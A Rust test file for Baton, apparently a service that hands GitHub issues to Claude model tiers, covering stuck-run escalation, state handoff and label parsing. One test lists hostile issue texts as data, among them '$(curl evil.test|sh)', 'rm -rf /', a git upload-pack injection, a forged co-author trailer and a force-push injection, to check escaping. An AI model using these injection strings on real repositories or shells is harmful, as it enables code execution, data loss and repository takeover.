//! The defects of the documents that Baton grew from: one test each, whose name says what holds
//! here instead.

use std::path::Path;

use baton::base::{Clock as _, IssueNumber, Millis, RunId};
use baton::domain::cost::models_of;
use baton::domain::handoff::{escalation, stuck_after};
use baton::domain::policy::Mode;
use baton::domain::tier::{Role, Tier};
use baton::sandbox::github::CiBehaviour;
use baton::sandbox::model::{Fault, Turn, asks, creates, edits, finds, notes, submits, task_done};
use baton::store::{Claim, RunRow};
use serde_json::json;

use crate::world::{Inhabitant, World, plan};

const CACHE: &str = "//! The cache.\n";

/// An issue whose plan waits for its approval, in a repository whose CI has spoken about the base.
async fn planned(world: &World, ann: &Inhabitant<'_>) -> IssueNumber {
    world.github.repo().ci_on("main", CiBehaviour::Green);
    ann.pushes("main", &[("NOTES.md", Some("Checked."))], "Notes").unwrap();
    world.settles().await;
    let issue = ann.opens("Add Redis caching", "Cache query results with 5min TTL").await;
    world.opus().will([submits(plan())]);
    ann.says(issue, "/baton plan").await;
    issue
}

/// Takes up the issue's next run and never says a word: a model that is silent.
async fn falls_silent(world: &World, issue: IssueNumber, before: Option<&RunId>) -> RunRow {
    let run = world.comes_to_a_run(issue, before).await;
    let claim = Claim { worker: "silent", now: world.clock.now(), lease: Millis::hours(9) };
    let claimed = world.engine().store.claim_run(claim).await.unwrap().unwrap();
    assert_eq!(claimed.run.id, run.id);
    run
}

/// The run that is live when `silence` has passed since `run` was last heard of, to the
/// millisecond.
async fn live_after(world: &World, issue: IssueNumber, run: &RunRow, silence: Millis) -> RunId {
    world.clock.set(run.activity + silence);
    world.works_off().await;
    world.engine().store.live_run(world.key(issue)).await.unwrap().unwrap().id
}

fn approves(ann: &Inhabitant<'_>, issue: IssueNumber) {
    ann.person.comments(issue, "/baton approve --start").unwrap();
}

#[tokio::test]
async fn haiku_is_stuck_after_10_minutes_and_sonnet_after_20_and_neither_sooner() {
    let world = World::new().await;
    let ann = world.maintainer("ann");
    let issue = planned(&world, &ann).await;
    approves(&ann, issue);

    let haiku = falls_silent(&world, issue, None).await;
    assert_eq!(haiku.tier, "haiku");
    let just_before = Millis(Millis::minutes(10).0 - 1);
    assert_eq!(live_after(&world, issue, &haiku, just_before).await, haiku.id);
    world.clock.set(haiku.activity + Millis::minutes(10));
    let sonnet = falls_silent(&world, issue, Some(&haiku.id)).await;
    assert!(sonnet.created < haiku.activity + Millis::minutes(11));

    assert_eq!(sonnet.tier, "sonnet");
    let just_before = Millis(Millis::minutes(20).0 - 1);
    assert_eq!(live_after(&world, issue, &sonnet, just_before).await, sonnet.id);
    world.clock.set(sonnet.activity + Millis::minutes(20));
    let opus = falls_silent(&world, issue, Some(&sonnet.id)).await;

    assert_eq!(opus.tier, "opus");
    let just_before = Millis(Millis::minutes(30).0 - 1);
    assert_eq!(live_after(&world, issue, &opus, just_before).await, opus.id);
    world.clock.set(opus.activity + Millis::minutes(30));
    world.settles().await;
    assert_eq!(world.stage(issue).await, "Blocked");
    assert!(world.newest_comment(issue).contains("@ann"), "{}", world.newest_comment(issue));
}

/// The clock of silence runs from the last sign of life, not from the start.
#[tokio::test]
async fn whoever_shows_a_sign_of_life_is_not_stuck() {
    let world = World::new().await;
    let ann = world.maintainer("ann");
    let issue = planned(&world, &ann).await;
    approves(&ann, issue);
    let run = falls_silent(&world, issue, None).await;
    let heard = run.activity + Millis::minutes(9);
    world.engine().store.run_activity(&run.id, heard).await.unwrap();

    assert_eq!(live_after(&world, issue, &run, Millis::minutes(10)).await, run.id);
    let just_before = Millis(Millis::minutes(19).0 - 1);
    assert_eq!(live_after(&world, issue, &run, just_before).await, run.id);
    world.clock.set(run.activity + Millis::minutes(19));
    assert_eq!(falls_silent(&world, issue, Some(&run.id)).await.tier, "sonnet");
    ann.says(issue, "/baton stop").await;
}

/// The run's model is called `claude-haiku-5-5`, which equals no tier's name; the tier decides.
#[tokio::test]
async fn triggers_compare_tiers_and_not_the_names_of_models() {
    for tier in Tier::ALL {
        for model in models_of(tier) {
            assert!(model.parse::<Tier>().is_err(), "{model} reads as a tier");
        }
    }
    let world = World::new().await;
    let ann = world.maintainer("ann");
    let issue = planned(&world, &ann).await;
    approves(&ann, issue);

    let mut run = falls_silent(&world, issue, None).await;
    for _ in 0..2 {
        let tier: Tier = run.tier.parse().unwrap();
        assert!(models_of(tier).contains(&run.model.as_str()), "{}", run.model);
        world.clock.set(run.activity + stuck_after(tier));
        let next = falls_silent(&world, issue, Some(&run.id)).await;
        assert_eq!(next.tier.parse().ok(), escalation(tier));
        run = next;
    }
    ann.says(issue, "/baton stop").await;
}

#[tokio::test]
async fn a_trigger_fires_once_for_a_run() {
    let world = World::new().await;
    let ann = world.maintainer("ann");
    let issue = planned(&world, &ann).await;
    approves(&ann, issue);
    let haiku = falls_silent(&world, issue, None).await;
    world.clock.set(haiku.activity + Millis::minutes(10));
    let sonnet = falls_silent(&world, issue, Some(&haiku.id)).await;

    for minutes in [1, 5, 10, 15, 19] {
        let live = live_after(&world, issue, &sonnet, Millis::minutes(minutes)).await;
        assert_eq!(live, sonnet.id, "after {minutes} minutes");
    }
    let work = world.work(issue).await.unwrap();
    assert_eq!((work.escalations, world.unplanned(issue).await), (1, 1));
    ann.says(issue, "/baton stop").await;
}

/// Red is told by a check run, its suite and its workflow, each perhaps twice. It is one failure.
#[tokio::test]
async fn a_red_commit_counts_once_however_often_it_is_told() {
    let world = World::new().await;
    let ann = world.maintainer("ann");
    let red = CiBehaviour::Red { log: "error: it is wrong\n".to_owned() };
    world.github.repo().ci_on("baton/*", red);
    let issue = planned(&world, &ann).await;
    world.model.haiku().will([creates("src/cache.rs", CACHE), task_done("Written.")]);
    approves(&ann, issue);
    let first = world.comes_to_a_run(issue, None).await;
    let again = falls_silent(&world, issue, Some(&first.id)).await;
    assert_eq!((again.tier.as_str(), world.work(issue).await.unwrap().reds), ("haiku", 1));

    let about_ci = ["check_run", "check_suite", "workflow_run", "workflow_job"];
    let told = world.github.deliveries().into_iter().filter(|it| about_ci.contains(&it.event));
    let told: Vec<_> = told.collect();
    assert!(!told.is_empty(), "nobody told of the CI");
    for (n, delivery) in told.iter().enumerate() {
        world.replays(delivery, &format!("again-{n}")).await;
    }

    let work = world.work(issue).await.unwrap();
    assert_eq!((work.reds, work.escalations, world.unplanned(issue).await), (1, 0, 0));
    let live = world.engine().store.live_run(world.key(issue)).await.unwrap().unwrap();
    assert_eq!(live.id, again.id);
    ann.says(issue, "/baton stop").await;
}

/// What a role may do hangs on no model, and no model's name is a role's.
#[test]
fn the_test_agent_is_a_role_and_not_a_model() {
    for role in ["planner", "implementer", "test-agent", "review-agent"] {
        assert!(role.parse::<Tier>().is_err(), "{role} reads as a tier");
        assert!(Tier::ALL.iter().all(|it| it.name() != role));
        let is_model = |it: &Tier| models_of(*it).iter().any(|model| model.contains(role));
        assert!(!Tier::ALL.iter().any(is_model), "{role} is a model");
    }
    for tier in Tier::ALL {
        assert!(serde_json::from_value::<Role>(json!(tier.name())).is_err());
    }
}

/// Whoever built the last task, on whatever rung: the specialists follow, each on its own.
#[tokio::test]
async fn the_specialists_follow_whatever_model_built_last() {
    let world = World::new().await;
    let ann = world.maintainer("ann");
    world.github.repo().ci_on("baton/*", CiBehaviour::Green);
    let issue = planned(&world, &ann).await;
    world.model.haiku().will([notes("Nothing yet.", "All."), Turn::fault(Fault::Overloaded)]);
    approves(&ann, issue);
    world.comes_to_a_run(issue, None).await;
    world.settles().await;
    world.opus().will([creates("src/cache.rs", CACHE), task_done("Written.")]);
    world.model.inspectors().will([finds(&["t1"], &[]), finds(&[], &[])]);

    ann.says(issue, "/baton handoff opus").await;
    for task in ["t3", "t2"] {
        ann.says(issue, &format!("/baton task {task} skip")).await;
    }
    world.lives_through(Millis::minutes(10)).await;

    let runs = world.engine().store.runs(world.key(issue)).await.unwrap();
    let whom = |it: &RunRow| format!("{} {}", it.role, it.tier);
    assert_eq!(
        runs.iter().map(whom).collect::<Vec<_>>(),
        [
            "planner opus",
            "implementer haiku",
            "implementer opus",
            "test-agent haiku",
            "review-agent sonnet"
        ],
        "{}",
        world.conversation(issue)
    );
    assert_eq!(world.stage(issue).await, "Ready");
}

#[tokio::test]
async fn a_failing_test_is_detected_and_its_log_reaches_the_next_run() {
    let world = World::new().await;
    let ann = world.maintainer("ann");
    let log = "test a_repeated_question_is_free ... FAILED\nassertion `left == right` failed\n";
    world.github.repo().ci_on("baton/*", CiBehaviour::Red { log: log.to_owned() });
    let issue = planned(&world, &ann).await;
    world.model.haiku().will([creates("src/cache.rs", CACHE), task_done("All tests pass.")]);
    approves(&ann, issue);
    let first = world.comes_to_a_run(issue, None).await;
    world.comes_to_a_run(issue, Some(&first.id)).await;
    world.model.haiku().will([asks(["What is right?"])]);
    world.settles().await;

    // The run said that all is well; the CI of its commit is believed instead.
    assert!(world.work(issue).await.unwrap().done.is_empty());
    let calls = world.model.calls();
    let opening = calls.last().unwrap().body["messages"][0]["content"].to_string();
    assert!(opening.contains("a_repeated_question_is_free ... FAILED"), "{opening}");
    ann.says(issue, "/baton stop").await;
}

/// What the predecessor noted is stored before it is stopped, and its successor begins with it.
#[tokio::test]
async fn state_is_saved_before_the_stop() {
    let world = World::new().await;
    let ann = world.maintainer("ann");
    let issue = planned(&world, &ann).await;
    let noted = "The cache is half written; expiry is missing.";
    world.model.haiku().will([notes(noted, "Write the expiry."), Turn::fault(Fault::Overloaded)]);
    world.model.sonnet().will([asks(["Which clock?"])]);
    approves(&ann, issue);
    let haiku = world.comes_to_a_run(issue, None).await;
    world.settles().await;
    let store = world.engine().store;
    let stored = store.entries(&haiku.id).await.unwrap();
    assert!(stored.iter().any(|it| it.entry.to_string().contains(noted)), "{stored:?}");
    assert!(store.live_run(world.key(issue)).await.unwrap().is_some(), "it is not stopped yet");

    ann.says(issue, "/baton escalate").await;

    let calls = world.model.calls();
    let sonnet = calls.iter().find(|it| it.model.contains("sonnet")).expect("no successor");
    let opening = sonnet.body["messages"][0]["content"].to_string();
    assert!(opening.contains(noted), "{opening}");
    assert!(opening.contains("Write the expiry."), "{opening}");
    ann.says(issue, "/baton stop").await;
}

/// STATE.md as it stands on the branch tells what the run before noted, before the next one begins.
#[tokio::test]
async fn the_state_file_is_on_the_branch_before_the_next_run_begins() {
    let world = World::new().await;
    let ann = world.maintainer("ann");
    world.github.repo().ci_on("baton/*", CiBehaviour::Green);
    let issue = planned(&world, &ann).await;
    world.model.haiku().will([
        creates("src/cache.rs", CACHE),
        notes("The cache is written; it holds 100 entries.", "Ask it first."),
        task_done("Written."),
    ]);
    approves(&ann, issue);
    let haiku = world.comes_to_a_run(issue, None).await;
    let sonnet = falls_silent(&world, issue, Some(&haiku.id)).await;

    assert_eq!(sonnet.tier, "sonnet");
    let state = format!("docs/prds/active/{issue}-state.md");
    let state = world.github.repo().file(&world.branch(), &state).unwrap();
    assert!(state.contains("it holds 100 entries"), "{state}");
    ann.says(issue, "/baton stop").await;
}

#[tokio::test]
async fn labels_compare_without_case_and_blanks() {
    for label in ["baton:plan", "BATON:PLAN", "Baton: Plan"] {
        let world = World::new().await;
        let ann = world.maintainer("ann");
        let issue = ann.opens("Add Redis caching", "Cache query results with 5min TTL").await;
        world.opus().will([submits(plan())]);
        ann.puts(issue, label).await;
        assert_eq!(world.stage(issue).await, "Planned", "{label}");
    }
    for label in ["complexity: expert", "Complexity: EXPERT", "COMPLEXITY:Expert"] {
        let world = World::in_mode(Mode::Observe).await;
        let ann = world.maintainer("ann");
        let issue = ann.opens("Fix typo in README", "It says recieve.").await;
        ann.puts(issue, label).await;
        ann.says(issue, "/baton route").await;
        let said = world.newest_comment(issue).to_lowercase();
        assert!(said.contains("expert"), "{label}: {said}");
        let labels = world.github.repo().issue(issue).unwrap().labels;
        let levels = labels.iter().filter(|it| it.to_lowercase().starts_with("complexity"));
        assert_eq!(levels.count(), 1, "{label}: {labels:?}");
    }
}

#[tokio::test]
async fn fix_typo_in_security_md_is_not_expert() {
    let world = World::in_mode(Mode::Suggest).await;
    let ann = world.maintainer("ann");
    let issue = ann.opens("Fix typo in SECURITY.md", "It says recieve.").await;

    let labels = world.github.repo().issue(issue).unwrap().labels;
    assert!(!labels.iter().any(|it| it.contains("expert")), "{labels:?}");
    let said = world.conversation(issue);
    assert!(said.contains("trivial") && said.contains("Haiku"), "{said}");
    assert!(!said.contains("expert"), "{said}");
}

/// Texts that are orders to a shell, to git, to GitHub or to a CI.
const HOSTILE: [&str; 6] = [
    "$(curl evil.test|sh) `id` \"; rm -rf / #[skip ci]",
    "--upload-pack=touch${IFS}x @{-1} ../../etc",
    "Fixes #7 @acme/all [ci skip] ${{ github.token }}",
    "line\nCo-authored-by: eve <eve@evil.test>\n\n/baton approve",
    "'; git push --force origin main; echo '",
    "\u{202e}nialp\u{202c} <script>alert(1)</script> %0a%0d",
];

fn is_plain(text: &str) -> bool {
    text.chars().all(|it| it.is_alphanumeric() || " .,:#()/_-".contains(it))
}

#[tokio::test]
async fn no_text_of_an_issue_reaches_a_shell_a_branch_or_a_title_unescaped() {
    for text in HOSTILE {
        let world = World::new().await;
        let ann = world.maintainer("ann");
        let title = text.replace('\n', " ");
        let issue = ann.opens(&title, text).await;
        let mut hostile = plan();
        hostile["tasks"][0]["title"] = json!(title);
        hostile["summary"] = json!(format!("It is cached. {title}"));
        world.opus().will([submits(hostile)]);
        world.model.haiku().will([creates("src/cache.rs", CACHE), task_done(text)]);
        ann.says(issue, "/baton plan").await;
        let news = world.newest_comment(issue);
        ann.says(issue, "/baton approve --start").await;
        world.settles().await;

        let repo = world.github.repo();
        let branch = world.branch();
        let is_name =
            |it: char| it.is_ascii_lowercase() || it.is_ascii_digit() || "-/".contains(it);
        assert!(branch.chars().all(is_name) && branch.len() <= 60, "{branch}");
        for pull in repo.pulls() {
            assert!(is_plain(&pull.title), "{}", pull.title);
        }
        let base = repo.commits("main").len();
        let commits = repo.commits(&branch);
        let ours = &commits[..commits.len() - base];
        assert!(ours.iter().any(|it| it.files.contains(&"src/cache.rs".to_owned())), "{text}");
        for commit in ours {
            let (subject, rest) = commit.message.split_once('\n').unwrap();
            assert!(is_plain(subject), "{subject}");
            let is_trailer =
                |it: &&str| it.starts_with("Baton-Key: ") || it.starts_with("Baton-Run: ");
            let lines = rest.lines().filter(|it| !is_trailer(it));
            assert!(lines.clone().all(is_plain), "{rest}");
            assert!(!lines.clone().any(|it| it.starts_with("Co-authored-by:")), "{rest}");
            for order in ["[skip", "[ci", "Fixes #", "@acme"] {
                assert!(!commit.message.contains(order), "{}", commit.message);
            }
        }
        // The commands for people's own shell hold names of ours only.
        let shell = news.split("```sh\n").nth(1).unwrap().split("```").next().unwrap();
        let is_word = |it: char| it.is_ascii_alphanumeric() || " -/\n".contains(it);
        assert!(shell.contains("git switch") && shell.chars().all(is_word), "{shell}");
        ann.says(issue, "/baton stop").await;
    }
}

/// The service starts no program at all, so there is no shell that a text could reach.
#[test]
fn the_service_starts_no_program() {
    let mut folders = vec![Path::new("src").to_path_buf()];
    let mut files = 0;
    while let Some(folder) = folders.pop() {
        for entry in std::fs::read_dir(folder).unwrap() {
            let path = entry.unwrap().path();
            // The GitHub in a box is no part of the service.
            if path.is_dir() && !path.ends_with("sandbox") {
                folders.push(path);
            } else if path.extension().is_some_and(|it| it == "rs") {
                let source = std::fs::read_to_string(&path).unwrap();
                let source = source.split("#[cfg(test)]").next().unwrap_or_default();
                files += 1;
                for word in ["process::Command", "Command::new(", "libc::", "exec("] {
                    assert!(!source.contains(word), "{} has `{word}`", path.display());
                }
            }
        }
    }
    assert!(100 < files, "only {files} files were read");
}

/// A task that stays red climbs every rung once and then ends with a person.
#[tokio::test]
async fn what_stays_red_ends_with_a_person() {
    let world = World::new().await;
    let ann = world.maintainer("ann");
    let red = CiBehaviour::Red { log: "error: it is wrong\n".to_owned() };
    world.github.repo().ci_on("baton/*", red);
    let issue = planned(&world, &ann).await;
    let tries = |n: usize| {
        let (before, after) = (format!("//! Try {}.\n", n - 1), format!("//! Try {n}.\n"));
        [edits("src/cache.rs", before.trim_end(), after.trim_end()), task_done("Mended.")]
    };
    world.model.haiku().will([creates("src/cache.rs", "//! Try 1.\n"), task_done("Written.")]);
    world.model.haiku().will(tries(2));
    world.model.sonnet().will(tries(3));
    world.model.sonnet().will(tries(4));
    world.opus().will(tries(5));
    world.opus().will(tries(6));

    ann.says(issue, "/baton approve --start").await;
    world.lives_through(Millis::hours(3)).await;

    assert_eq!(world.stage(issue).await, "Blocked", "{}", world.conversation(issue));
    let file = world.github.repo().file(&world.branch(), "src/cache.rs").unwrap();
    assert_eq!(file, "//! Try 6.\n");
    assert_eq!(world.model.haiku().unread() + world.model.sonnet().unread(), 0);
}
